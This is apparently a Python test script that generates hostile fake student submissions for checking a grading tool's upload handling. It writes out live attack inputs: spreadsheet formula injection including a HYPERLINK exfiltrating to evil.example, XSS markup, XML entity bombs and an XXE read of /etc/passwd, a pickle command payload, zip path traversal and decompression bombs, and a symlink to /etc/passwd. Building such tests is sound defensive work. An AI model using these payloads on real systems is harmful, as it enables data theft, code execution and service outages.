"""Submissions that a class never makes: bombs, formulas, names with markup, paths that climb, damaged files.

``python tests/hostile/submissions.py FOLDER [N]`` writes them, for a class with the ids s000, s001 ...
"""

import io
import os
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from random import Random

HEADER = b"step,quantity,value\n"
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1+cmd",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
    "&lt;b&gt;",
    "\u202egnp.exe",
)
NUMBERS = (
    "1e308",
    "-1e308",
    "1e400",
    "9" * 5000,
    "1/0",
    "0/0",
    "nan",
    "inf",
    "1e-400",
    "0x1F",
    "1_000",
    "1" * 99,
)
BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
    + b"ha" * 50
    + b'"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


def archive(files: dict[str, bytes]) -> bytes:
    """Return a ZIP archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in files.items():
            file.writestr(name, content)
    return out.getvalue()


def table(random: Random, values: tuple[str, ...]) -> bytes:
    """Return a table with one hostile cell in every row."""
    names = ("z_h1", "h1", "L", "dL/dw5", "w1")
    rows = [f'1,{name},"{random.choice(values)}"' for name in names]
    return HEADER + "\n".join(rows).encode("utf-8", "surrogatepass") + b"\n"


def workbook(part: str, content: bytes) -> bytes:
    """Return a spreadsheet with one part of one's own."""
    parts = {
        "[Content_Types].xml": b"<Types/>",
        "xl/workbook.xml": b"<workbook/>",
        "content.xml": b"<office/>",
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
    }
    return archive({**parts, part: content})


def repeated() -> bytes:
    """Return an ODS whose one cell is repeated a billion times in a billion rows."""
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    rows = (
        f'<o:document-content xmlns:o="{office}" xmlns:t="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:x="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><o:body><o:spreadsheet><t:table>'
        '<t:table-row t:number-rows-repeated="999999999"><t:table-cell t:number-columns-repeated="999999999">'
        "<x:p>1</x:p></t:table-cell></t:table-row></t:table></o:spreadsheet></o:body></o:document-content>"
    )
    manifest = b'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    return archive({"mimetype": kind, "content.xml": rows.encode(), "META-INF/manifest.xml": manifest})


def damaged(random: Random) -> bytes:
    """Return a spreadsheet with some bytes changed, and its end cut off."""
    content = bytearray(workbook("xl/worksheets/sheet1.xml", b"<worksheet/>"))
    for _ in range(5):
        content[random.randrange(len(content))] = random.randrange(256)
    return bytes(content[: random.randrange(1, len(content))])


ZEROS = bytes(30_000_000)

KINDS: tuple[Callable[[Random], tuple[str, bytes]], ...] = (
    lambda r: (".csv", r.randbytes(r.randrange(400))),
    lambda r: (".xlsx", r.randbytes(200)),
    lambda r: (".ods", r.randbytes(200)),
    lambda r: (".zip", r.randbytes(200)),
    lambda r: (".csv", table(r, FORMULAS)),
    lambda r: (".csv", table(r, MARKUP)),
    lambda r: (".csv", table(r, NUMBERS)),
    lambda r: (".csv", HEADER + f'1,"{r.choice(MARKUP)}",1\n{r.choice(FORMULAS)},z_h1,2\n'.encode()),
    lambda r: (".csv", HEADER + b"1,z_h1," + b"9" * 200_000 + b"\n"),
    lambda r: (".csv", b"step," * 100_000),
    lambda r: (".csv", HEADER + b"1,z_h1,1\n" * 50_000),
    lambda r: (".csv", HEADER + b'1,z_h1,"1\n1,h1,2\n'),
    lambda r: (".csv", b"\xff\xfe" + r.randbytes(51)),
    lambda r: (".csv", b"cos\nsystem\n(S'touch owned'\ntR."),
    lambda r: (".csv", b"\0" * r.randrange(1, 300)),
    lambda r: (".xlsx", workbook("xl/sharedStrings.xml", r.choice((BOMB, OUTSIDE)))),
    lambda r: (".ods", workbook("content.xml", r.choice((BOMB, OUTSIDE)))),
    lambda r: (".xlsx", workbook("xl/worksheets/sheet1.xml", ZEROS)),
    lambda r: (".ods", archive({"content.xml": ZEROS})),
    lambda r: (".zip", archive({f"{r.choice(MARKUP)}.csv": table(r, FORMULAS), "a.csv": ZEROS})),
    lambda r: (
        ".zip",
        archive({"../../climbed.csv": HEADER, "/climbed.csv": HEADER, "C:\\climbed.csv": HEADER}),
    ),
    lambda r: (".zip", archive({"inner.zip": archive({"innermost.zip": archive({"a.csv": HEADER})})})),
    lambda r: (".xlsx", damaged(r)),
    lambda r: (".ods", damaged(r)),
    lambda r: (".ods", repeated()),
    lambda r: (".exe", b"MZ" + r.randbytes(100)),
    lambda r: ("", HEADER),
    lambda r: (".tsv", HEADER.replace(b",", b"\t") + b"1\tz_h1\t=1\n" + b"2" * 20 + b"\tL\t1\n"),
)
"""An ending and a content each."""


def write_hostile(folder: Path, n: int, seed: int = 0, n_students: int = 20) -> int:
    """Write hostile submissions, and links, pipes and folders that look like some; return how many files."""
    random = Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    for i in range(n):
        ending, content = KINDS[i % len(KINDS)](random)
        stem = f"s{random.randrange(n_students):03}" if random.random() < 0.7 else "nobody"
        sign = random.choice(("", " (1)", "'\"&<b>", " =1+1", "\n", " {{x}}"))
        (folder / f"{stem} {i}{sign}{ending}").write_bytes(content)
    (folder / "s001.csv").symlink_to("/etc/passwd")
    (folder / "linked").symlink_to(folder.parent, target_is_directory=True)
    os.mkfifo(folder / "s002 pipe.csv")
    (folder / "s003.csv").mkdir()
    (folder / "s003.csv" / "deep.csv").write_bytes(HEADER)
    return n + 4


if __name__ == "__main__":
    print(write_hostile(Path(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 2000))
